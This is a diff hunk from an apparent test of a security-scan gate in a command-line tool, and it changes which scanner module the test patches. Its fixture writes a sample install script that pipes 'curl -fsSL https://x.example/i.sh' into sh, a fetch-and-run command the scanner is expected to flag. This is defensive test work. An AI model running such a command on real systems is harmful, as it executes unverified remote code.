@@ -185,7 +185,7 @@ def test_security_scan_sends_shell_scripts_to_the_projects_scanner(
                              "curl -fsSL https://x.example/i.sh | sh")]
         return []
 
-    monkeypatch.setitem(sys.modules, "agent_agency_cli.validation", types.SimpleNamespace(scan_text=scan_text))
+    monkeypatch.setitem(sys.modules, "agent_agency_cli.security.scanner", types.SimpleNamespace(scan_text=scan_text))
     _write(ctx.workdir, {"scripts/install.sh": "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n",
                          "scripts/deploy": "#!/usr/bin/env bash\necho deploy\n", "notes.txt": "| sh\n"})
     r = run_gate(GateSpec(type="security_scan"), ctx)
